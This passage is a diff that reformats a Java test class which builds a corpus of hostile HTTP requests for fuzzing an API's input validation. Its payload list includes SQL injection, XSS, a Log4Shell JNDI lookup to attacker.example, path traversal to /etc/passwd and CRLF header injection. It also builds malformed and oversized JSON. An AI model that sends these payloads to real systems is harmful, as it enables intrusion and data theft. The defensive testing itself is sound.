@@ -1,7 +1,6 @@
 package io.kakunin.service;
 
 import io.kakunin.fixtures.Fixtures;
-
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
@@ -10,7 +9,6 @@ import java.util.ArrayList;
 import java.util.Iterator;
 import java.util.List;
 import java.util.Map;
-
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 import tools.jackson.databind.node.ArrayNode;
@@ -36,7 +34,14 @@ final class HostileInputCorpus {
      * given instead ({@link RawHttp}): request line {@code method path HTTP/1.1}, then those
      * header lines, which carry their own credentials.
      */
-    record Case(String name, String method, String path, String contentType, byte[] body, List<String> headers, List<String> rawLines) {
+    record Case(
+            String name,
+            String method,
+            String path,
+            String contentType,
+            byte[] body,
+            List<String> headers,
+            List<String> rawLines) {
 
         Case(String name, String method, String path, String contentType, byte[] body, List<String> headers) {
             this(name, method, path, contentType, body, headers, null);
@@ -50,22 +55,37 @@ final class HostileInputCorpus {
 
     static final String ASSESSMENTS = "/v1/assessments";
     static final String REVIEWS = "/v1/sharing-reviews";
-    static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "\"; DROP TABLE assessment; --", "<script>alert(1)</script>",
-            "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "{{7*7}}", "%00%0d%0aSet-Cookie: x=y");
+    static final List<String> INJECTIONS = List.of(
+            "' OR '1'='1' --",
+            "\"; DROP TABLE assessment; --",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://attacker.example/a}",
+            "../../../../etc/passwd",
+            "{{7*7}}",
+            "%00%0d%0aSet-Cookie: x=y");
     private static final JsonMapper JSON = JsonMapper.builder().build();
     /** Longer than the parser's limit on one string (kakunin.limits.max-string-length). */
     private static final String HUGE = "A".repeat(270_000);
 
     private final List<Case> cases = new ArrayList<>();
 
-    private HostileInputCorpus() {
-    }
+    private HostileInputCorpus() {}
 
     static List<Case> all() {
         HostileInputCorpus corpus = new HostileInputCorpus();
-        corpus.fields("assessment", ASSESSMENTS, fixture("product-security/scenario-smart-lock-from-a-well-run-sme-is-compliant"));
-        corpus.fields("structured share", REVIEWS, fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere"));
-        corpus.fields("STIX share", REVIEWS, fixture("information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction"));
+        corpus.fields(
+                "assessment",
+                ASSESSMENTS,
+                fixture("product-security/scenario-smart-lock-from-a-well-run-sme-is-compliant"));
+        corpus.fields(
+                "structured share",
+                REVIEWS,
+                fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere"));
+        corpus.fields(
+                "STIX share",
+                REVIEWS,
+                fixture(
+                        "information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction"));
         corpus.malformedJson();
         corpus.nesting();
         corpus.stix();
@@ -90,7 +110,8 @@ final class HostileInputCorpus {
     }
 
     private void post(String name, String path, String body, String... headers) {
-        cases.add(new Case(name, "POST", path, "application/json", body.getBytes(StandardCharsets.UTF_8), List.of(headers)));
+        cases.add(new Case(
+                name, "POST", path, "application/json", body.getBytes(StandardCharsets.UTF_8), List.of(headers)));
     }
 
     private void post(String name, String path, JsonNode body) {
@@ -116,60 +137,127 @@ final class HostileInputCorpus {
             JsonNode schema = inStix ? null : Contract.schemaAt(root, pointer);
             if (value.isString()) {
                 String text = value.asString();
-                post(label + ": NUL in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(text + "\u0000x")));
-                post(label + ": escape sequence in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("\u001b[2J" + text)));
+                post(
+                        label + ": NUL in " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.stringNode(text + "\u0000x")));
+                post(
+                        label + ": escape sequence in " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.stringNode("\u001b[2J" + text)));
                 if (inStix) {
                     continue;
                 }
-                post(label + ": number for the string " + pointer, path, with(request, pointer, JsonNodeFactory.instance.numberNode(12345)));
-                post(label + ": boolean for the string " + pointer, path, with(request, pointer, JsonNodeFactory.instance.booleanNode(true)));
+                post(
+                        label + ": number for the string " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.numberNode(12345)));
+                post(
+                        label + ": boolean for the string " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.booleanNode(true)));
                 boolean isEnum = schema.has("enum");
                 String format = schema.path("format").asString("");
                 if (isEnum) {
-                    post(label + ": unknown value of " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(text + "_OR_ELSE")));
-                    post(label + ": value of " + pointer + " in lower case", path, with(request, pointer, JsonNodeFactory.instance.stringNode(text.toLowerCase())));
+                    post(
+                            label + ": unknown value of " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode(text + "_OR_ELSE")));
+                    post(
+                            label + ": value of " + pointer + " in lower case",
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode(text.toLowerCase())));
                 }
                 if (format.equals("date")) {
-                    post(label + ": 30 February in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-02-30")));
-                    post(label + ": a date without zeros in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-1-5")));
+                    post(
+                            label + ": 30 February in " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-02-30")));
+                    post(
+                            label + ": a date without zeros in " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-1-5")));
                 }
                 if (format.equals("date-time")) {
-                    post(label + ": a time without offset in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T02:10:00")));
-                    post(label + ": hour 25 in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T25:10:00Z")));
+                    post(
+                            label + ": a time without offset in " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T02:10:00")));
+                    post(
+                            label + ": hour 25 in " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T25:10:00Z")));
                 }
                 if (isEnum || schema.has("pattern") || !format.isEmpty()) {
                     for (String injection : INJECTIONS.subList(0, 4)) {
-                        post(label + ": injection " + injection + " in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(injection)));
+                        post(
+                                label + ": injection " + injection + " in " + pointer,
+                                path,
+                                with(request, pointer, JsonNodeFactory.instance.stringNode(injection)));
                     }
                 }
                 if (schema.has("maxLength")) {
-                    post(label + ": " + pointer + " one character over its limit", path,
-                            with(request, pointer, JsonNodeFactory.instance.stringNode("a".repeat(schema.path("maxLength").asInt() + 1))));
+                    post(
+                            label + ": " + pointer + " one character over its limit",
+                            path,
+                            with(
+                                    request,
+                                    pointer,
+                                    JsonNodeFactory.instance.stringNode(
+                                            "a".repeat(schema.path("maxLength").asInt() + 1))));
                 }
             } else if (value.isNumber()) {
-                boolean boundedStix = inStix && List.of("confidence", "count", "number_observed").contains(field);
+                boolean boundedStix = inStix
+                        && List.of("confidence", "count", "number_observed").contains(field);
                 if (inStix && !boundedStix) {
                     continue;
                 }
-                post(label + ": string for the number " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(value.asString())));
+                post(
+                        label + ": string for the number " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.stringNode(value.asString())));
                 post(label + ": 1e400 for " + pointer, path, raw(request, pointer, "1e400"));
-                post(label + ": 40 digits for " + pointer, path, raw(request, pointer, "1234567890123456789012345678901234567890"));
+                post(
+                        label + ": 40 digits for " + pointer,
+                        path,
+                        raw(request, pointer, "1234567890123456789012345678901234567890"));
                 post(label + ": 200 digits for " + pointer, path, raw(request, pointer, "9".repeat(200)));
                 post(label + ": a fraction for " + pointer, path, raw(request, pointer, "1.5"));
                 if (schema != null && schema.has("minimum")) {
-                    post(label + ": " + pointer + " under its minimum", path, with(request, pointer,
-                            JsonNodeFactory.instance.numberNode(schema.path("minimum").asLong() - 1)));
+                    post(
+                            label + ": " + pointer + " under its minimum",
+                            path,
+                            with(
+                                    request,
+                                    pointer,
+                                    JsonNodeFactory.instance.numberNode(
+                                            schema.path("minimum").asLong() - 1)));
                 }
                 if (schema != null && schema.has("maximum")) {
-                    post(label + ": " + pointer + " over its maximum", path, with(request, pointer,
-                            JsonNodeFactory.instance.numberNode(schema.path("maximum").asLong() + 1)));
+                    post(
+                            label + ": " + pointer + " over its maximum",
+                            path,
+                            with(
+                                    request,
+                                    pointer,
+                                    JsonNodeFactory.instance.numberNode(
+                                            schema.path("maximum").asLong() + 1)));
                 }
                 if (boundedStix) {
-                    post(label + ": " + pointer + " out of STIX's range", path, with(request, pointer, JsonNodeFactory.instance.numberNode(-1)));
+                    post(
+                            label + ": " + pointer + " out of STIX's range",
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.numberNode(-1)));
                 }
             } else if (value.isBoolean() && !inStix) {
-                post(label + ": string for the boolean " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("true")));
-                post(label + ": number for the boolean " + pointer, path, with(request, pointer, JsonNodeFactory.instance.numberNode(1)));
+                post(
+                        label + ": string for the boolean " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.stringNode("true")));
+                post(
+                        label + ": number for the boolean " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.numberNode(1)));
             }
         }
         List<String> containers = new ArrayList<>();
@@ -184,21 +272,35 @@ final class HostileInputCorpus {
                 ((ObjectNode) copy.at(pointer)).put("injected" + "Field", "' OR 1=1");
                 post(label + ": unknown field in " + (pointer.isEmpty() ? "/" : pointer), path, copy);
                 if (!pointer.isEmpty()) {
-                    post(label + ": array for the object " + pointer, path, with(request, pointer, JsonNodeFactory.instance.arrayNode()));
+                    post(
+                            label + ": array for the object " + pointer,
+                            path,
+                            with(request, pointer, JsonNodeFactory.instance.arrayNode()));
                 }
             } else if (node.isArray()) {
-                post(label + ": object for the array " + pointer, path, with(request, pointer, JsonNodeFactory.instance.objectNode()));
+                post(
+                        label + ": object for the array " + pointer,
+                        path,
+                        with(request, pointer, JsonNodeFactory.instance.objectNode()));
                 ArrayNode grown = JsonNodeFactory.instance.arrayNode();
                 for (int i = 0; i < 10_001; i++) {
-                    grown.add(node.isEmpty() ? JsonNodeFactory.instance.nullNode() : node.get(0).deepCopy());
+                    grown.add(
+                            node.isEmpty()
+                                    ? JsonNodeFactory.instance.nullNode()
+                                    : node.get(0).deepCopy());
                 }
                 if (grown.toString().length() < 900_000) {
                     post(label + ": 10,001 elements in " + pointer, path, with(request, pointer, grown));
                 }
             }
         }
-        post(label + ": a string over the parser's limit", path, with(request, "/" + request.properties().iterator().next().getKey(),
-                JsonNodeFactory.instance.stringNode(HUGE)));
+        post(
+                label + ": a string over the parser's limit",
+                path,
+                with(
+                        request,
+                        "/" + request.properties().iterator().next().getKey(),
+                        JsonNodeFactory.instance.stringNode(HUGE)));
     }
 
     private static void leaves(JsonNode node, String at, List<String> out) {
@@ -218,7 +320,8 @@ final class HostileInputCorpus {
     private static void containers(JsonNode node, String at, List<String> out) {
         if (node.isContainer()) {
             out.add(at);
-            Iterator<Map.Entry<String, JsonNode>> fields = node.isObject() ? node.properties().iterator() : java.util.Collections.emptyIterator();
+            Iterator<Map.Entry<String, JsonNode>> fields =
+                    node.isObject() ? node.properties().iterator() : java.util.Collections.emptyIterator();
             while (fields.hasNext()) {
                 Map.Entry<String, JsonNode> e = fields.next();
                 containers(e.getValue(), at + "/" + e.getKey(), out);
@@ -232,7 +335,9 @@ final class HostileInputCorpus {
     private static ObjectNode with(ObjectNode request, String pointer, JsonNode value) {
         ObjectNode copy = request.deepCopy();
         String parent = pointer.substring(0, pointer.lastIndexOf('/'));
-        String last = pointer.substring(pointer.lastIndexOf('/') + 1).replace("~1", "/").replace("~0", "~");
+        String last = pointer.substring(pointer.lastIndexOf('/') + 1)
+                .replace("~1", "/")
+                .replace("~0", "~");
         JsonNode container = parent.isEmpty() ? copy : copy.at(parent);
         if (container instanceof ObjectNode o) {
             o.set(last, value);
@@ -245,66 +350,136 @@ final class HostileInputCorpus {
     /** A copy whose value at the pointer is replaced by raw JSON text (numbers Jackson's tree cannot hold). */
     private static String raw(ObjectNode request, String pointer, String json) {
         String marker = "\"__raw_marker__\"";
-        return with(request, pointer, JsonNodeFactory.instance.stringNode("__raw_marker__")).toString().replace(marker, json);
+        return with(request, pointer, JsonNodeFactory.instance.stringNode("__raw_marker__"))
+                .toString()
+                .replace(marker, json);
     }
 
     // ------------------------------------------------------------------ malformed JSON
 
     private void malformedJson() {
-        String good = fixture("product-security/ps-4.2-shared-default-password-fails").toString();
+        String good =
+                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
         for (int i = 1; i <= 12; i++) {
             int cut = good.length() * i / 13;
             post("truncated at " + cut + " of " + good.length() + " bytes", ASSESSMENTS, good.substring(0, cut));
         }
         String[][] broken = {
-                {"single quotes", "{'organization':{},'products':[{}]}"},
-                {"a trailing comma", "{\"organization\":{},\"products\":[{}],}"},
-                {"a comment", "{/* hi */\"organization\":{},\"products\":[{}]}"},
-                {"NaN", "{\"organization\":{\"monitoringIntervalDays\":NaN},\"products\":[{}]}"},
-                {"Infinity", "{\"organization\":{\"monitoringIntervalDays\":Infinity},\"products\":[{}]}"},
-                {"a leading zero", "{\"organization\":{\"monitoringIntervalDays\":007},\"products\":[{}]}"},
-                {"a plus sign", "{\"organization\":{\"monitoringIntervalDays\":+7},\"products\":[{}]}"},
-                {"a bare word", "{\"organization\":{\"id\":acme},\"products\":[{}]}"},
-                {"an unterminated string", "{\"organization\":{\"id\":\"acme},\"products\":[{}]}"},
-                {"a raw newline in a string", "{\"organization\":{\"id\":\"ac\nme\"},\"products\":[{}]}"},
-                {"a bad escape", "{\"organization\":{\"id\":\"\\x41\"},\"products\":[{}]}"},
-                {"a lone surrogate escape", "{\"organization\":{\"name\":\"\\ud800\"},\"products\":[{}]}"},
-                {"duplicate fields", "{\"organization\":{},\"products\":[{\"defaultPasswordPolicy\":\"SHARED\",\"defaultPasswordPolicy\":\"UNIQUE_PER_DEVICE\"}]}"},
-                {"two documents", "{\"organization\":{},\"products\":[{}]}{\"organization\":{},\"products\":[{}]}"},
-                {"garbage after the document", "{\"organization\":{},\"products\":[{}]} ;DROP TABLE assessment"},
-                {"a JSON string", "\"organization\""},
-                {"a JSON number", "42"},
-                {"JSON null", "null"},
-                {"an empty object", "{}"},
-                {"an empty body", ""},
-                {"whitespace only", "   \n  "},
-                {"XML", "<assessment><organization/></assessment>"},
-                {"a field name over the limit", "{\"" + "k".repeat(2000) + "\":1,\"organization\":{},\"products\":[{}]}"},
+            {"single quotes", "{'organization':{},'products':[{}]}"},
+            {"a trailing comma", "{\"organization\":{},\"products\":[{}],}"},
+            {"a comment", "{/* hi */\"organization\":{},\"products\":[{}]}"},
+            {"NaN", "{\"organization\":{\"monitoringIntervalDays\":NaN},\"products\":[{}]}"},
+            {"Infinity", "{\"organization\":{\"monitoringIntervalDays\":Infinity},\"products\":[{}]}"},
+            {"a leading zero", "{\"organization\":{\"monitoringIntervalDays\":007},\"products\":[{}]}"},
+            {"a plus sign", "{\"organization\":{\"monitoringIntervalDays\":+7},\"products\":[{}]}"},
+            {"a bare word", "{\"organization\":{\"id\":acme},\"products\":[{}]}"},
+            {"an unterminated string", "{\"organization\":{\"id\":\"acme},\"products\":[{}]}"},
+            {"a raw newline in a string", "{\"organization\":{\"id\":\"ac\nme\"},\"products\":[{}]}"},
+            {"a bad escape", "{\"organization\":{\"id\":\"\\x41\"},\"products\":[{}]}"},
+            {"a lone surrogate escape", "{\"organization\":{\"name\":\"\\ud800\"},\"products\":[{}]}"},
+            {
+                "duplicate fields",
+                "{\"organization\":{},\"products\":[{\"defaultPasswordPolicy\":\"SHARED\",\"defaultPasswordPolicy\":\"UNIQUE_PER_DEVICE\"}]}"
+            },
+            {"two documents", "{\"organization\":{},\"products\":[{}]}{\"organization\":{},\"products\":[{}]}"},
+            {"garbage after the document", "{\"organization\":{},\"products\":[{}]} ;DROP TABLE assessment"},
+            {"a JSON string", "\"organization\""},
+            {"a JSON number", "42"},
+            {"JSON null", "null"},
+            {"an empty object", "{}"},
+            {"an empty body", ""},
+            {"whitespace only", "   \n  "},
+            {"XML", "<assessment><organization/></assessment>"},
+            {"a field name over the limit", "{\"" + "k".repeat(2000) + "\":1,\"organization\":{},\"products\":[{}]}"},
         };
         for (String[] b : broken) {
             post("malformed JSON: " + b[0], ASSESSMENTS, b[1]);
-            post("malformed JSON in a share: " + b[0], REVIEWS, b[1].replace("organization", "sharer").replace("products", "recipients"));
+            post(
+                    "malformed JSON in a share: " + b[0],
+                    REVIEWS,
+                    b[1].replace("organization", "sharer").replace("products", "recipients"));
         }
-        cases.add(new Case("invalid UTF-8 bytes", "POST", ASSESSMENTS, "application/json",
-                new byte[] {'{', '"', 'o', 'r', 'g', 'a', 'n', 'i', 'z', 'a', 't', 'i', 'o', 'n', '"', ':', '{', '"', 'i', 'd', '"', ':', '"',
-                        (byte) 0xC3, (byte) 0x28, '"', '}', ',', '"', 'p', 'r', 'o', 'd', 'u', 'c', 't', 's', '"', ':', '[', '{', '}', ']', '}'},
+        cases.add(new Case(
+                "invalid UTF-8 bytes",
+                "POST",
+                ASSESSMENTS,
+                "application/json",
+                new byte[] {
+                    '{',
+                    '"',
+                    'o',
+                    'r',
+                    'g',
+                    'a',
+                    'n',
+                    'i',
+                    'z',
+                    'a',
+                    't',
+                    'i',
+                    'o',
+                    'n',
+                    '"',
+                    ':',
+                    '{',
+                    '"',
+                    'i',
+                    'd',
+                    '"',
+                    ':',
+                    '"',
+                    (byte) 0xC3,
+                    (byte) 0x28,
+                    '"',
+                    '}',
+                    ',',
+                    '"',
+                    'p',
+                    'r',
+                    'o',
+                    'd',
+                    'u',
+                    'c',
+                    't',
+                    's',
+                    '"',
+                    ':',
+                    '[',
+                    '{',
+                    '}',
+                    ']',
+                    '}'
+                },
                 List.of()));
-        post("a body over the size limit", ASSESSMENTS, "{\"organization\":{\"name\":\"" + "x".repeat(1_100_000) + "\"},\"products\":[{}]}");
+        post(
+                "a body over the size limit",
+                ASSESSMENTS,
+                "{\"organization\":{\"name\":\"" + "x".repeat(1_100_000) + "\"},\"products\":[{}]}");
     }
 
     private void nesting() {
-        post("arrays nested 200 deep in a STIX property", REVIEWS, "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":"
-                + "[".repeat(200) + "]".repeat(200) + "}}");
-        post("objects nested 200 deep in a STIX property", REVIEWS, "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":"
-                + "{\"a\":".repeat(200) + "1" + "}".repeat(200) + "}}");
+        post(
+                "arrays nested 200 deep in a STIX property",
+                REVIEWS,
+                "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":" + "[".repeat(200)
+                        + "]".repeat(200) + "}}");
+        post(
+                "objects nested 200 deep in a STIX property",
+                REVIEWS,
+                "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":" + "{\"a\":".repeat(200) + "1"
+                        + "}".repeat(200) + "}}");
         post("arrays nested 100,000 deep", ASSESSMENTS, "[".repeat(100_000) + "]".repeat(100_000));
-        post("arrays nested 70 deep in a product list", ASSESSMENTS, "{\"organization\":{},\"products\":" + "[".repeat(70) + "]".repeat(70) + "}");
+        post(
+                "arrays nested 70 deep in a product list",
+                ASSESSMENTS,
+                "{\"organization\":{},\"products\":" + "[".repeat(70) + "]".repeat(70) + "}");
     }
 
     // ------------------------------------------------------------------ STIX
 
     private void stix() {
-        ObjectNode request = fixture("information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction");
+        ObjectNode request = fixture(
+                "information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction");
         ArrayNode objects = (ArrayNode) request.at("/stix/objects");
         String first = objects.get(0).path("id").asString();
         for (int i = 0; i < objects.size(); i++) {
@@ -312,12 +487,17 @@ final class HostileInputCorpus {
             String type = o.path("type").asString();
             ObjectNode dangling = request.deepCopy();
             // A marking the bundle does not define cannot be honoured (who made an object may be named from outside).
-            ((ObjectNode) dangling.at("/stix/objects/" + i)).putArray("object_marking_refs").add("marking-definition--00000000-0000-4000-8000-000000000000");
+            ((ObjectNode) dangling.at("/stix/objects/" + i))
+                    .putArray("object_marking_refs")
+                    .add("marking-definition--00000000-0000-4000-8000-000000000000");
             post("STIX: dangling object_marking_refs on " + type, REVIEWS, dangling);
             ObjectNode self = request.deepCopy();
-            ((ObjectNode) self.at("/stix/objects/" + i)).putArray("object_refs").add(o.path("id").asString());
+            ((ObjectNode) self.at("/stix/objects/" + i))
+                    .putArray("object_refs")
+                    .add(o.path("id").asString());
             if (!"report".equals(type) && !"grouping".equals(type) && !"note".equals(type) && !"opinion".equals(type)) {
-                ((ObjectNode) self.at("/stix/objects/" + i)).put("sample_ref", o.path("id").asString());
+                ((ObjectNode) self.at("/stix/objects/" + i))
+                        .put("sample_ref", o.path("id").asString());
             }
             post("STIX: " + type + " referring to itself", REVIEWS, self);
             for (String required : List.of("type", "id", "spec_version", "created")) {
@@ -331,8 +511,9 @@ final class HostileInputCorpus {
             ((ObjectNode) badId.at("/stix/objects/" + i)).put("id", type + "--not-a-uuid");
             post("STIX: " + type + " with a malformed id", REVIEWS, badId);
         }
-        String report = "{\"type\":\"report\",\"spec_version\":\"2.1\",\"id\":\"%s\",\"created\":\"2026-11-18T03:00:00.000Z\","
-                + "\"modified\":\"2026-11-18T03:00:00.000Z\",\"name\":\"r\",\"published\":\"2026-11-18T03:00:00Z\",\"object_refs\":[\"%s\",\"%s\"]}";
+        String report =
+                "{\"type\":\"report\",\"spec_version\":\"2.1\",\"id\":\"%s\",\"created\":\"2026-11-18T03:00:00.000Z\","
+                        + "\"modified\":\"2026-11-18T03:00:00.000Z\",\"name\":\"r\",\"published\":\"2026-11-18T03:00:00Z\",\"object_refs\":[\"%s\",\"%s\"]}";
         String r1 = "report--0c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a1";
         String r2 = "report--1c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a2";
         ObjectNode cycle = request.deepCopy();
@@ -372,17 +553,41 @@ final class HostileInputCorpus {
     // ------------------------------------------------------------------ queries, paths, headers
 
     private void queries() {
-        List<String> params = List.of("organizationId", "productId", "failedRecommendation", "rulesetRevision", "createdFrom", "createdTo",
-                "limit", "cursor", "outcome");
+        List<String> params = List.of(
+                "organizationId",
+                "productId",
+                "failedRecommendation",
+                "rulesetRevision",
+                "createdFrom",
+                "createdTo",
+                "limit",
+                "cursor",
+                "outcome");
         for (String param : params) {
             for (String injection : INJECTIONS) {
                 String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8);
-                cases.add(new Case("query " + param + "=" + injection, "GET", ASSESSMENTS + "?" + param + "=" + encoded, null, null, List.of()));
+                cases.add(new Case(
+                        "query " + param + "=" + injection,
+                        "GET",
+                        ASSESSMENTS + "?" + param + "=" + encoded,
+                        null,
+                        null,
+                        List.of()));
             }
         }
-        for (String[] q : new String[][] {{"limit", "0"}, {"limit", "201"}, {"limit", "-5"}, {"limit", "1e3"}, {"limit", "99999999999"},
-                {"createdFrom", "2026-13-01T00:00:00Z"}, {"createdTo", "yesterday"}, {"outcome", "compliant"}, {"cursor", "AAAA"},
-                {"decision", "SHARE_EVERYTHING"}, {"organizationId", ""}}) {
+        for (String[] q : new String[][] {
+            {"limit", "0"},
+            {"limit", "201"},
+            {"limit", "-5"},
+            {"limit", "1e3"},
+            {"limit", "99999999999"},
+            {"createdFrom", "2026-13-01T00:00:00Z"},
+            {"createdTo", "yesterday"},
+            {"outcome", "compliant"},
+            {"cursor", "AAAA"},
+            {"decision", "SHARE_EVERYTHING"},
+            {"organizationId", ""}
+        }) {
             String path = (q[0].equals("decision") ? REVIEWS : ASSESSMENTS) + "?" + q[0] + "=" + q[1];
             cases.add(new Case("query " + q[0] + "=" + q[1], "GET", path, null, null, List.of()));
         }
@@ -391,27 +596,61 @@ final class HostileInputCorpus {
 
     private void paths() {
         for (String injection : INJECTIONS) {
-            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20");
-            cases.add(new Case("assessment id " + injection, "GET", ASSESSMENTS + "/" + encoded, null, null, List.of()));
+            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8)
+                    .replace("+", "%20");
+            cases.add(
+                    new Case("assessment id " + injection, "GET", ASSESSMENTS + "/" + encoded, null, null, List.of()));
             cases.add(new Case("review id " + injection, "GET", REVIEWS + "/" + encoded, null, null, List.of()));
-            cases.add(new Case("recommendation id " + injection, "GET", "/v1/recommendations/" + encoded, null, null, List.of()));
+            cases.add(new Case(
+                    "recommendation id " + injection, "GET", "/v1/recommendations/" + encoded, null, null, List.of()));
         }
-        cases.add(new Case("an unknown assessment", "GET", ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69", null, null, List.of()));
-        cases.add(new Case("an encoded slash in an id", "GET", ASSESSMENTS + "/..%2F..%2Fetc%2Fpasswd", null, null, List.of()));
+        cases.add(new Case(
+                "an unknown assessment",
+                "GET",
+                ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69",
+                null,
+                null,
+                List.of()));
+        cases.add(new Case(
+                "an encoded slash in an id", "GET", ASSESSMENTS + "/..%2F..%2Fetc%2Fpasswd", null, null, List.of()));
     }
 
     private void headersAndMethods() {
-        String good = fixture("product-security/ps-4.2-shared-default-password-fails").toString();
+        String good =
+                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
         post("an Idempotency-Key of 201 characters", ASSESSMENTS, good, "Idempotency-Key", "k".repeat(201));
         post("an Idempotency-Key with spaces", ASSESSMENTS, good, "Idempotency-Key", "a key with spaces");
-        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")) {
-            cases.add(new Case("content type " + type, "POST", ASSESSMENTS, type, good.getBytes(StandardCharsets.UTF_8), List.of()));
+        for (String type : List.of(
+                "text/plain",
+                "application/xml",
+                "application/x-www-form-urlencoded",
+                "multipart/form-data; boundary=x")) {
+            cases.add(new Case(
+                    "content type " + type,
+                    "POST",
+                    ASSESSMENTS,
+                    type,
+                    good.getBytes(StandardCharsets.UTF_8),
+                    List.of()));
         }
-        cases.add(new Case("no content type", "POST", ASSESSMENTS, null, good.getBytes(StandardCharsets.UTF_8), List.of()));
+        cases.add(new Case(
+                "no content type", "POST", ASSESSMENTS, null, good.getBytes(StandardCharsets.UTF_8), List.of()));
         for (String method : List.of("PUT", "PATCH", "DELETE")) {
-            cases.add(new Case(method + " on the assessments", method, ASSESSMENTS, "application/json", good.getBytes(StandardCharsets.UTF_8), List.of()));
+            cases.add(new Case(
+                    method + " on the assessments",
+                    method,
+                    ASSESSMENTS,
+                    "application/json",
+                    good.getBytes(StandardCharsets.UTF_8),
+                    List.of()));
         }
-        cases.add(new Case("no credentials", "POST", ASSESSMENTS, "application/json", good.getBytes(StandardCharsets.UTF_8), List.of("X-API-Key", "")));
+        cases.add(new Case(
+                "no credentials",
+                "POST",
+                ASSESSMENTS,
+                "application/json",
+                good.getBytes(StandardCharsets.UTF_8),
+                List.of("X-API-Key", "")));
     }
 
     // ------------------------------------------------------------------ what the contract does not declare
@@ -419,16 +658,20 @@ final class HostileInputCorpus {
     static final String BATCH = "/v1/assessments:batch";
 
     private static byte[] goodAssessment() {
-        return fixture("product-security/ps-4.2-shared-default-password-fails").toString().getBytes(StandardCharsets.UTF_8);
+        return fixture("product-security/ps-4.2-shared-default-password-fails")
+                .toString()
+                .getBytes(StandardCharsets.UTF_8);
     }
 
     private static byte[] goodShare() {
-        return fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere").toString()
+        return fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere")
+                .toString()
                 .getBytes(StandardCharsets.UTF_8);
     }
 
     private static byte[] goodBatch() {
-        String line = fixture("product-security/ps-4.2-shared-default-password-fails").toString();
+        String line =
+                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
         return (line + "\n" + line + "\n").getBytes(StandardCharsets.UTF_8);
     }
 
@@ -438,68 +681,151 @@ final class HostileInputCorpus {
      */
     private void unknownParameters() {
         String[][] gets = {
-                {ASSESSMENTS + "?decision=DO_NOT_SHARE", "a sharing filter on assessments"},
-                {ASSESSMENTS + "?organisationId=acme", "a misspelt filter"},
-                {ASSESSMENTS + "?OrganizationId=acme", "a filter in the wrong case"},
-                {ASSESSMENTS + "?offset=50", "offset paging"},
-                {ASSESSMENTS + "?page=2&limit=10", "page paging"},
-                {ASSESSMENTS + "?sort=createdAt", "a sort order"},
-                {ASSESSMENTS + "?outcome=MAYBE", "an outcome that is not one"},
-                {ASSESSMENTS + "?outcome=", "an empty outcome"},
-                {ASSESSMENTS + "?%01=1", "a control character as a parameter name"},
-                {ASSESSMENTS + "?=acme", "a parameter without a name"},
-                {REVIEWS + "?productId=cam-1", "an assessment filter on reviews"},
-                {REVIEWS + "?decision=MAYBE", "a decision that is not one"},
-                {"/v1/rulesets?cursor=MDE5MzZkM2Y", "a cursor that no page of the ruleset history gave"},
-                {"/v1/rulesets?limit=5&offset=5", "offset paging of ruleset events"},
-                {"/v1/rulesets/active?revision=sha256:00", "a revision on the active ruleset"},
-                {"/v1/recommendations?lang=ja", "a language as a parameter"},
